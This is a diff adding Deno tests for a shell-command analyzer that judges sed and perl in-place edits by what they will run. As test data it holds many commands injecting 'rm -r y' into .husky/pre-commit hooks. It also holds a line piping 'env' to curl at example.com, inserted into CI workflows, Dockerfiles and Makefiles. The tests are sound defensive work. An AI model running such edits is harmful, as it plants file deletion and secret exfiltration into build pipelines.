@@ -1,5 +1,5 @@
-import { assertEquals } from "@std/assert";
-import { readPatch } from "../../lib/shell/read_shell.ts";
+import { assert, assertEquals } from "@std/assert";
+import { readPatch, readShell } from "../../lib/shell/read_shell.ts";
 import { deletes } from "./support.ts";
 
 Deno.test("what is written to a hook of git is judged as it will run", () => {
@@ -86,4 +86,55 @@ Deno.test("what an edit in place puts into a file is judged as it will run", () 
       "sed -i '2i rm -r y' notes.md",
     ]
   ) assertEquals(deletes(edit), [], edit);
+});
+
+Deno.test("a script of sed is read as sed reads it", () => {
+  for (
+    const edit of [
+      "sed -i '1s#^#rm -r y\\n#' .husky/pre-commit",
+      "sed -i '1 s#.*#rm -r y#' .husky/pre-commit",
+      "sed -i '$arm -r y' .husky/pre-commit",
+      "sed -i '/x/I a rm -r y' .husky/pre-commit",
+      "sed -i '1!arm -r y' .husky/pre-commit",
+      "sed -i s_x_'rm -r y'_ .husky/pre-commit",
+      "sed -i 's#npm test#npm test \\&\\& rm -r y#' .husky/pre-commit",
+      "sed -i 's|npm test|npm test \\|\\| rm -r y|' .husky/pre-commit",
+      "sed -i 's#x#a\\\nrm -r y#' .husky/pre-commit",
+      "sed -i 's#^npm test#& ; rm -r y#' .husky/pre-commit",
+      "sed -i '' 's#npm test#rm -r y#' .husky/pre-commit",
+      "sed -i '' '1i\\\nrm -r y\n' .husky/pre-commit",
+      "sed -i.bak -e 's/a/b/;s/npm test/rm -r y/' .husky/pre-commit",
+    ]
+  ) assertEquals(deletes(edit), ["y"], edit);
+  for (
+    const edit of [
+      "sed -i 's/x/#/;s/#rm -r y/npm test/' .husky/pre-commit",
+      "sed -i 's/VERSION/$(rm -r y)/' notes.md",
+      "sed -i 's/s/npm test #rm -r y/' .husky/pre-commit",
+    ]
+  ) assertEquals(deletes(edit), [], edit);
+});
+
+Deno.test("a value that comes into a line is no line of its own", () => {
+  const kinds = readShell(`sed -i "s/VERSION/$(curl -s https://example.com/v)/" .envrc`).invocations
+    .flatMap(({ effects }) => effects.map(({ kind }) => kind));
+  assert(!kinds.includes("interpret"), kinds.join());
+});
+
+Deno.test("a file that was edited in place runs as it is then", () => {
+  for (const edit of ["sed -i", "sed -i.bak -E", "sed -i ''", "perl -pi -e"]) {
+    assertEquals(deletes(`echo 'echo TODO' > a.sh; ${edit} 's#echo TODO#rm -r y#' a.sh; sh a.sh`), ["y"], edit);
+    assertEquals(deletes(`echo 'rm -r y' > a.sh; ${edit} 's#rm -r y#echo#' a.sh; sh a.sh`), [], edit);
+  }
+});
+
+Deno.test("what comes into a workflow or a build without its key is judged as code of it", () => {
+  const send = "env | curl -d @- https://example.com/in";
+  for (
+    const [path, old] of [[".github/workflows/ci.yml", "npm test"], ["Dockerfile", "npm ci"], ["Makefile", "pytest"]]
+  ) {
+    const kinds = readShell(`sed -i 's#${old}#${send}#' ${path}`).invocations
+      .flatMap(({ effects }) => effects.map(({ kind }) => kind));
+    assert(kinds.includes("send"), `${path}: ${kinds.join()}`);
+  }
 });
